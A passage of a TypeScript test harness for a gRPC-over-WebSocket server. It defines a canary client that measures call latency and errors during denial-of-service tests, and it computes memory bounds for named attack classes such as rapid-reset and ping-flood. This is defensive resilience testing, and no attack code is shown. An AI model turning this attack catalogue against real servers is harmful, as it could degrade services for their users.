 * and status recorded. Fresh channels, connected at the first call.
 */
export class Canary {
  private readonly wsClient: any
  private readonly h2Client: any
  private stopping = false
  private paused: Promise<void> | null = null
  private unpause: () => void = () => {}
  /** Loops waiting at the pause (0–2). */
  private waiting = 0
  private readonly loops: Promise<void>[]
  private result: CanaryResult = { websocket: [], http2: [], cpuUserMs: 0, cpuSystemMs: 0, wallMs: 0 }
  private cpu = process.cpuUsage()
  private started = performance.now()

  /**
   * `minCalls`: each transport makes at least that many calls before stop()
   * returns, so an attack that ends at once still meets a canary.
   */
  constructor (target: AttackTarget & { http2Address: string }, { maxMs = 60_000, maxCalls = 200_000, deadlineMs = 10_000, minCalls = 3 } = {}) {
    this.wsClient = new TestClient('ignored', grpc.credentials.createInsecure(), { channelOverride: createWebSocketChannel(target.wsUrl) })
    this.h2Client = new TestClient(target.http2Address, grpc.credentials.createInsecure())
    const until = performance.now() + maxMs
    const loop = async (client: any, transport: 'websocket' | 'http2'): Promise<void> => {
      while (performance.now() < until) {
        if (this.paused !== null) {
          this.waiting++
          await this.paused
          this.waiting--
        }
        const into = this.result[transport]
        if ((this.stopping && into.length >= minCalls) || into.length >= maxCalls) break
        const start = performance.now()
        const outcome = await new Promise<{ code: number, details: string }>(resolve => {
          client.Unary({ mode: 'echo', message: 'canary' }, new grpc.Metadata(), { deadline: Date.now() + deadlineMs }, (err: grpc.ServiceError | null) => {
            resolve(err === null ? { code: 0, details: '' } : { code: err.code, details: err.details })
          })
        })
        into.push({ ms: performance.now() - start, ...outcome })
        // A failing call returns at once: do not spin on it.
        if (outcome.code !== 0) await sleep(10)
      }
    }
    this.loops = [loop(this.wsClient, 'websocket'), loop(this.h2Client, 'http2')]
  }

  /** Resolves once each transport has made `calls` calls (since the last take()): its connections are open and warm. */
  async calling (calls: number): Promise<void> {
    while ((this.result.websocket.length < calls || this.result.http2.length < calls) && !this.stopping) await sleep(5)
  }

  /**
   * Stops calling, connections kept open, once each transport's call in
   * flight has ended: what the server then holds for the canary is what it
   * holds for two idle connections that have been used.
   */
  async pause (): Promise<void> {
    if (this.paused === null) this.paused = new Promise(resolve => { this.unpause = resolve })
    while (this.waiting < 2) await sleep(2)
  }

  resume (): void {
    if (this.paused === null) return
    this.paused = null
    this.unpause()
  }

  /** The calls since the previous take() (or the start), and the test process's CPU and the wall time over them; the canary goes on. */
  take (): CanaryResult {
    const result = this.result
    const cpu = process.cpuUsage(this.cpu)
    result.cpuUserMs = Math.round(cpu.user / 1000)
    result.cpuSystemMs = Math.round(cpu.system / 1000)
    result.wallMs = Math.round(performance.now() - this.started)
    this.result = { websocket: [], http2: [], cpuUserMs: 0, cpuSystemMs: 0, wallMs: 0 }
    this.cpu = process.cpuUsage()
    this.started = performance.now()
    return result
  }

  async stop (): Promise<CanaryResult> {
    this.stopping = true
    this.resume()
    await Promise.all(this.loops)
    this.wsClient.close()
    this.h2Client.close()
    return this.take()
  }
}

/** The calls that did not end OK, as `code details` strings (at most `limit`). */
export function failures (result: CanaryResult, limit = 5): string[] {
  return [...result.websocket.map(c => ({ ...c, t: 'websocket' })), ...result.http2.map(c => ({ ...c, t: 'http2' }))]
    .filter(c => c.code !== 0).slice(0, limit).map(c => `${c.t}: ${c.code} ${c.details}`)
}

// --- the server the attacks are measured against ------------------------------------

/**
 * Small limits, so the documented bound is tight and an unbounded server
 * clearly exceeds it. `pingInterval: 0`: keepalive cuts no one, so only the
 * limits bound what a peer that does not read can queue.
 */
export const ATTACK_SERVER_OPTIONS = {
  maxConcurrentStreams: 10,
  initialWindowSize: 64 * 1024,
  maxReceiveMessageSize: 64 * 1024,
  maxFrameSize: 64 * 1024,
  maxMetadataSize: 16 * 1024,
  socketHighWaterMark: 64 * 1024,
  pingInterval: 0,
  maxConnections: 64,
  maxConnectionsPerPeer: 8
}

/** What "small per-stream overhead" is taken to be: the stream's state, its call objects, the handler's closure. */
export const PER_STREAM_OVERHEAD = 16 * 1024
/** Per connection or socket: the socket, the session, the decoder. */
export const PER_CONNECTION_OVERHEAD = 64 * 1024

type Limits = typeof ATTACK_SERVER_OPTIONS

/**
 * The documented upper bound of what one grpc-ws.v1 connection can make the
 * server hold: maxConcurrentStreams × (maxReceiveMessageSize + 2 ×
 * initialWindowSize) + socketHighWaterMark + maxFrameSize + overhead.
 */
export function connectionBound (o: Limits = ATTACK_SERVER_OPTIONS): number {
  return o.maxConcurrentStreams * (o.maxReceiveMessageSize + 2 * o.initialWindowSize + PER_STREAM_OVERHEAD) +
    o.socketHighWaterMark + o.maxFrameSize + PER_CONNECTION_OVERHEAD
}

/**
 * One grpc-websockets socket: its unread messages (readHighWaterMark, the
 * initialWindowSize), one message being reassembled, the send backlog, one
 * WebSocket message and the overhead.
 */
export function compatSocketBound (o: Limits = ATTACK_SERVER_OPTIONS): number {
  return o.initialWindowSize + o.maxReceiveMessageSize + o.socketHighWaterMark + o.maxFrameSize + PER_STREAM_OVERHEAD + PER_CONNECTION_OVERHEAD
}

/** A peer that never reads, flooding control traffic: socketHighWaterMark + maxFrameSize of backlog, one message being read. */
export function controlFloodBound (o: Limits = ATTACK_SERVER_OPTIONS): number {
  return o.socketHighWaterMark + 2 * o.maxFrameSize + PER_CONNECTION_OVERHEAD
}

/** What a class may make the server hold (with ATTACK_SERVER_OPTIONS and the attack's defaults), or null when memory is not its point. */
export function boundFor (id: string): number | null {
  switch (id) {
    case 'compat-zero-length': return 2 * compatSocketBound()
    case 'compat-one-byte': return 4 * compatSocketBound()
    case 'compat-header-lines': return 3 * compatSocketBound()
    case 'connection-slots': return null
    case 'rapid-reset': return connectionBound()
    // Nothing is held for streams: only the unsent backlog, up to the mark plus one frame, and the message being read.
    case 'ping-flood': case 'refused-calls': case 'ws-ping-flood': return controlFloodBound()
    default: return connectionBound()
  }
}
